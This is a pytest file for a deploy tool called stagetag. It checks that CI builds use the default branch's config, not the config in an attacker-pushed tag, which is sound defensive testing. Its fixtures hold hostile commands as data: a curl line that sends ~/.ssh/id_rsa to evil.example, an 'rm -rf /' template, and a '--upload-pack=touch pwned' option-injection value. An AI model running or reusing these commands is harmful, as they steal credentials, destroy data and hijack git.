"""In CI, what a pushed tag deploys is decided by stagetag.yaml on the default branch, not by
the tag's own commit, which whoever pushed the tag wrote."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from conftest import GitRepo, make_repo, run_stagetag

HONEST = """\
deploy:
  templates: ci/stagetag
  stages:
    prod:
      deploy: ./deploy.sh {{ name }} {{ version }}
"""
EVIL = HONEST.replace("./deploy.sh", "curl -d @~/.ssh/id_rsa https://evil.example #")


def setup(tmp_path: Path) -> tuple[GitRepo, GitRepo]:
    """A remote whose main branch has the honest config, and a CI clone checked out at a
    tag pushed on a side commit that rewrote it (command and templates)."""
    bare = tmp_path / "origin.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(bare)], check=True)
    work = make_repo(tmp_path / "work")
    (work.path / "stagetag.yaml").write_text(HONEST)
    (work.path / "ci" / "stagetag").mkdir(parents=True)
    honest_script = "{% for job in jobs %}echo honest {{ job.name }}\n{% endfor %}"
    (work.path / "ci" / "stagetag" / "script.sh.j2").write_text(honest_script)
    work.commit("honest config")
    work.git("remote", "add", "origin", str(bare))
    work.git("push", "-q", "origin", "main")
    work.git("checkout", "-q", "-b", "side")
    (work.path / "stagetag.yaml").write_text(EVIL)
    (work.path / "ci" / "stagetag" / "script.sh.j2").write_text("rm -rf / # {{ jobs }}\n")
    side = work.commit("evil config")
    work.tag("m@v1.0.0", side, "2024-02-01T00:00:00+0000")
    work.tag("m#prod#1", side, "2024-02-01T00:01:00+0000")
    work.git("push", "-q", "origin", "side", "--tags")
    ci = tmp_path / "ci"
    subprocess.run(["git", "clone", "-q", "-b", "m#prod#1", str(bare), str(ci)], check=True)
    return work, GitRepo(ci)


def github_env(tmp_path: Path, default_branch: str = "main") -> dict[str, str]:
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"repository": {"default_branch": default_branch}}))
    return {
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_REF": "refs/tags/m#prod#1",
    }


GITLAB = {"GITLAB_CI": "true", "CI_DEFAULT_BRANCH": "main", "CI_COMMIT_TAG": "m#prod#1"}


@pytest.mark.parametrize("platform", ["github", "gitlab"])
def test_ci_deploys_what_the_default_branch_says(tmp_path: Path, platform: str) -> None:
    _, ci = setup(tmp_path)
    env = github_env(tmp_path) if platform == "github" else GITLAB
    plan = run_stagetag("dispatch", cwd=ci.path, env=env, check=True)
    [job] = json.loads(plan.stdout)["jobs"]
    assert job["command"] == "./deploy.sh m v1.0.0"
    script = run_stagetag("dispatch", "--format", "script", cwd=ci.path, env=env, check=True)
    assert script.stdout == "echo honest m\n"  # the default branch's template too


def test_outside_ci_the_work_tree_is_the_config(tmp_path: Path) -> None:
    """A person running dispatch in their own checkout trusts it; that is their choice."""
    _, ci = setup(tmp_path)
    plan = run_stagetag("dispatch", "refs/tags/m#prod#1", cwd=ci.path, check=True)
    assert "evil.example" in json.loads(plan.stdout)["jobs"][0]["command"]


def test_an_unreachable_default_branch_deploys_nothing(tmp_path: Path) -> None:
    _, ci = setup(tmp_path)
    result = run_stagetag("dispatch", cwd=ci.path, env=github_env(tmp_path, "trunk"))
    assert result.returncode == 1 and result.stdout == ""
    [line] = result.stderr.splitlines()
    assert "default branch 'trunk'" in line


@pytest.mark.parametrize("name", ["-x", "a..b", "main\nx", "--upload-pack=touch pwned"])
def test_an_odd_default_branch_name_is_refused(tmp_path: Path, name: str) -> None:
    _, ci = setup(tmp_path)
    result = run_stagetag("dispatch", cwd=ci.path, env=github_env(tmp_path, name))
    assert result.returncode == 1
    assert "odd default branch" in result.stderr
    assert not (ci.path / "pwned").exists()
